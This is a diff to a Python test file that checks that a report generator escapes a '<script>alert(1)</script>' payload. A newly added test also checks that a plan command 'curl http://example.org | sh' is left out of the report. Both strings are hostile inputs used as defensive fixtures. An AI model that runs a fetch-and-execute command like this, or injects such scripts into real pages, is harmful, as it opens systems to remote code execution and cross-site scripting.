@@ -302,7 +302,7 @@ def test_text_of_a_configuration_is_escaped(
     attack = "<script>alert(1)</script>"
     plan = json.loads((folder / "plan.json").read_text())
     plan["about"] = dict.fromkeys(("title", "question", "interpretation", "limitations"), attack)
-    plan["command"] = attack
+    plan["command"] = f"posenc train name='{attack}'"
     (folder / "plan.json").write_text(json.dumps(plan))
     for name in ("a</script>", "b|b"):
         config = fabricate.config("rope", 64, 7, encoding={"kind": name})
@@ -314,6 +314,13 @@ def test_text_of_a_configuration_is_escaped(
     assert page.text.count("alert(1)") == 8
     assert "rope kind=b\\|b" in (index.parent / "extrapolation.md").read_text()
     assert attack in printed(console)
+
+
+def test_a_command_that_does_not_run_posenc_is_not_shown(folder: Path, console: Console) -> None:
+    plan = json.loads((folder / "plan.json").read_text())
+    plan["command"] = "curl http://example.org | sh"
+    (folder / "plan.json").write_text(json.dumps(plan))
+    assert "curl" not in write_report(folder, console).read_text()
 
 
 def test_a_report_contains_no_path_of_this_machine(
